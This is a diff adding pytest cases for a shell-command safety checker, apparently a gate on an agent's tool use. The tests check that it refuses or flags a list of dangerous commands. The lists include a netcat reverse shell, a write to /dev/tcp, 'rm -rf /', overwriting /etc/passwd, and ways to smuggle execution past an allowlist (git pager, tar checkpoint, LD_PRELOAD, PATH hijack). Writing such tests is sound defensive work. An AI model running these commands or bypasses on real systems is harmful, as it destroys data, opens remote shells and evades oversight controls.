@@ -159,3 +159,70 @@ def test_allowlist_reason_names_the_escape() -> None:
             "cp /bin/bash ./ls && ./ls -c id", CommandLimits(allowlist=frozenset({"ls", "cp"}))
         ).reason
     )
+
+
+# The misclassifications issue 16 reports, each fixed.
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "rm -rf ./build",
+        "rm -rf ./*",
+        "kill -9 1234",
+        "killall -9 sshd",
+        "systemctl stop sshd",
+        "truncate -s 0 ./app.log",
+        "git push --force",
+        'psql -c "drop table users"',
+        "sed -n '1e rm -rf ./x' f",
+        "LD_PRELOAD=./x.so ls",
+        "LESSOPEN='|rm -rf ./x %s' less f",
+        "perl -e 'print 1'",
+        "ruby -e 'puts 1'",
+        "node -e 'console.log(1)'",
+        "php -r 'echo 1;'",
+        "lua -e 'print(1)'",
+        "echo 'puts 1' | tclsh",
+        "git -c core.pager='sh -c id' log",
+        "git -c alias.x='!id' x",
+        "tar -cf /dev/null ./x --checkpoint=1 --checkpoint-action=exec=id",
+        "vim -c ':!id' f",
+        "ssh -o ProxyCommand='id' host",
+        "rsync -e 'sh -c id' a b:",
+        "at now <<< 'id'",
+        "systemd-run id",
+        "source <(cat ./x.sh)",
+        "alias ll='rm -rf ./x'; ll",
+        "f() { id; }; f",
+        "echo hi > /dev/tcp/10.0.0.1/80",
+    ],
+)
+def test_issue_16_commands_are_destructive_or_refused(cmd: str) -> None:
+    decision = check_command(cmd)
+    assert not decision.allowed or decision.risk == "destructive", decision
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    ["sort -o /etc/passwd /dev/null", "nc -e /bin/sh 10.0.0.1 4444", "rm -rf /"],
+)
+def test_issue_16_commands_that_are_refused(cmd: str) -> None:
+    assert not check_command(cmd).allowed
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "./ls",
+        "PATH=/tmp/evil:$PATH ls",
+        "LD_PRELOAD=./x.so ls",
+        "chroot /tmp/x ls",
+        'cp /bin/bash ./ls && ./ls -c "id"',
+    ],
+)
+def test_issue_16_allowlist_bypasses_are_refused(cmd: str) -> None:
+    limits = CommandLimits(allowlist=frozenset({"ls", "cp", "chroot"}))
+    decision = check_command(cmd, limits)
+    assert not decision.allowed
+    assert decision.risk_code == "allowlist"
